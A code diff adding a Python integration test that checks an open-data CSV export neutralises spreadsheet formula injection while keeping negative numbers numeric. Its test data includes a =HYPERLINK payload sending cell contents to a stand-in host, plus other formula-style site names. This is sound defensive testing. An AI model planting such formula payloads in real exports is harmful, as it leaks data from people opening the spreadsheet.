@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import time
 
 import asyncpg
@@ -213,3 +215,44 @@ async def test_a_restart_rebuilds_a_lost_read_model_from_the_topic(
 
     after = await feed_when(publication.url, site, lambda body: True, timeout=30)
     assert after == before  # the newest snapshot again, not the older one replayed first
+
+
+async def test_open_data_csv_neutralises_formulas_but_keeps_numbers(
+    publication, send, make_event, feed_when
+):
+    """OWASP CSV injection: a site name like `=HYPERLINK(...)` must reach a spreadsheet as text,
+    while a negative NPS stays a number."""
+    network = "csv-formules"
+    hyperlink = '=HYPERLINK("https://pieges.example/?d="&A1;"Cliquez ici")'
+    names = {
+        "csv-lien": hyperlink,
+        "csv-plus": "+33 1 23 45 67 89",
+        "csv-moins": "-2+3",
+        "@csv-arobase": "@SUM(1+1)",
+    }
+    await send(
+        *(
+            make_event(site, {"nps": (-12.0, 120)}, network=network, site_name=name)
+            for site, name in names.items()
+        )
+    )
+    for site in names:
+        await feed_when(publication.url, site, lambda body: True, timeout=60)
+    async with httpx.AsyncClient(base_url=publication.url) as client:
+        response = await client.get(
+            "/v1/open-data/export-indicateurs.csv", params={"network": network}
+        )
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text), delimiter=";"))
+    nps = [row for row in rows if row["id_indicateur"] == "nps"]
+    by_site = {row["id_structure"].removeprefix("'"): row for row in nps}
+    assert set(by_site) == set(names)
+    for site, name in names.items():
+        row = by_site[site]
+        assert row["nom_structure"] == "'" + name, row  # text, not a formula
+        assert row["valeur"] == "-12"  # a number stays a number
+        assert row["ic95_borne_basse"] == "-14.5"
+        for column, cell in row.items():
+            if column not in {"valeur", "ic95_borne_basse", "ic95_borne_haute"}:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    assert by_site["@csv-arobase"]["id_structure"] == "'@csv-arobase"
